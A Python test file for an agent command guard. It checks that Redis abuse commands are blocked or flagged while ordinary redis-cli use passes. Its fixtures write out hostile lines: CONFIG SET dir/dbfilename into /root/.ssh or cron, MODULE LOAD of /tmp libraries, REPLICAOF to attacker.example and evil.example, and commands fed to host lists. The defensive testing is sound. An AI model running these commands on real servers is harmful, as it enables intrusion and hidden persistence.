"""Redis driven as a file writer (``CONFIG SET dir``/``dbfilename``) and commands fed to a host list."""

from __future__ import annotations

import pytest
from approvals import bus_with, run
from hypothesis import given
from hypothesis import strategies as st

from agentbus.guards.danger import check_command
from agentbus.guards.policy import Policy
from agentbus.guards.verdict import REMOTE_ACCESS, REMOTE_CODE, STEALTH_PERSISTENCE

HOME = "/home/dev"

DUMP_MOVED = [
    "redis-cli -h $h config set dir /root/.ssh",
    "redis-cli -h 10.0.0.5 config set dbfilename authorized_keys",
    "redis-cli -h 10.0.0.5 -p 6379 CONFIG SET dir /var/spool/cron/crontabs",
    "valkey-cli config set dbfilename root",
    'echo -e "config set dir /var/spool/cron\\nconfig set dbfilename root\\nsave" | redis-cli -h 1.2.3.4',
    "printf 'CONFIG SET dir /etc/cron.d\\r\\nSAVE\\r\\n' | keydb-cli -h $ip",
]
HOST_LISTS = [
    "while read -r h p; do cat .dat | redis-cli -h $h -p $p --raw & done < .lan",
    "while read ip; do redis-cli -h $ip < cmds.txt; done < hosts.txt",
    "cat hosts | xargs -I{} redis-cli -h {} < cmds.redis",
]
CODE_LOADED = [
    "redis-cli MODULE LOAD /tmp/x.so",
    "redis-cli -h 10.0.0.5 module load /dev/shm/exp.so",
    "redis-cli -h H SLAVEOF attacker.example 6379",
    "redis-cli -h 10.0.0.5 REPLICAOF 6.6.6.6 21000",
    "valkey-cli replicaof evil.example 6379",
    'echo "MODULE LOAD /tmp/exp.so" | redis-cli -h 1.2.3.4',
    "printf 'SLAVEOF 6.6.6.6 8886\\r\\n' | redis-cli -h $ip",
    "for h in localhost evil.example; do redis-cli -h $h replicaof $h 6379; done",
]
ORDINARY = [
    "redis-cli -p 6380 replicaof 127.0.0.1 6379",
    "redis-cli -h 10.0.0.3 replicaof no one",
    "redis-cli module load /usr/lib/redis/modules/redisearch.so",
    "redis-cli module list",
    "redis-cli ping",
    "redis-cli config get dir",
    "redis-cli CONFIG SET maxmemory 100mb",
    "cat seed.redis | redis-cli -h $REDIS_HOST",
    "redis-cli -h $REDIS_HOST < seed.redis",
    "redis-cli -h localhost --scan --pattern 'user:*'",
]


@pytest.mark.parametrize("command", DUMP_MOVED)
def test_moving_the_dump_file_is_blocked(command: str) -> None:
    verdict = check_command(command, home=HOME)
    assert verdict is not None, command
    assert (verdict.category, verdict.decision) == (STEALTH_PERSISTENCE, "block"), verdict


@pytest.mark.parametrize("command", CODE_LOADED)
def test_code_loaded_into_the_server_is_blocked(command: str) -> None:
    """MODULE LOAD runs a library inside the server; REPLICAOF another machine is the rogue-master way in."""
    verdict = check_command(command, home=HOME)
    assert verdict is not None, command
    assert (verdict.category, verdict.decision) == (REMOTE_CODE, "block"), verdict


@given(
    st.sampled_from(["slaveof", "SLAVEOF", "ReplicaOf", "replicaof"]),
    st.sampled_from(["evil.example", "6.6.6.6", "$master", "attacker"]),
    st.sampled_from(["", "-h 10.0.0.5 ", "-a pw -p 6380 "]),
)
def test_any_replica_of_another_machine_is_found(verb: str, master: str, options: str) -> None:
    verdict = check_command(f"redis-cli {options}{verb} {master} 6379", home=HOME)
    assert verdict is not None
    assert verdict.category == REMOTE_CODE


@pytest.mark.parametrize("command", HOST_LISTS)
def test_commands_fed_to_a_host_list_are_asked(command: str) -> None:
    verdict = check_command(command, home=HOME)
    assert verdict is not None, command
    assert (verdict.category, verdict.decision) == (REMOTE_ACCESS, "ask"), verdict
    unattended = check_command(command, home=HOME, policy=Policy(profile="unattended"))
    assert unattended is not None
    assert unattended.decision == "block"


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_redis_use_runs(command: str) -> None:
    assert check_command(command, home=HOME) is None


def test_the_policy_decides_what_a_dump_move_does() -> None:
    command = DUMP_MOVED[0]
    asked = check_command(command, home=HOME, policy=Policy(verdicts={STEALTH_PERSISTENCE: "ask"}))
    assert asked is not None
    assert asked.decision == "ask"


@given(
    st.lists(
        st.sampled_from(["-h 10.0.0.5", "-p 6380", "-a secret", "-n 2", "--raw", "--no-auth-warning"]),
        max_size=4,
    ),
    st.sampled_from(["dir", "DIR", "dbfilename", "DbFileName"]),
    st.sampled_from(["config set", "CONFIG SET", "Config Set"]),
)
def test_any_spelling_of_a_dump_move_is_found(options: list[str], setting: str, verb: str) -> None:
    verdict = check_command(f"redis-cli {' '.join(options)} {verb} {setting} /tmp/x", home=HOME)
    assert verdict is not None
    assert verdict.category == STEALTH_PERSISTENCE


@pytest.mark.anyio
async def test_a_dump_move_never_runs_through_the_bus() -> None:
    result, ran = await run(bus_with(lambda call: True), "redis-cli -h 10.0.0.5 config set dir /root/.ssh")
    assert ran == []
    assert (result.block_reason or "").startswith("hidden persistence: ")
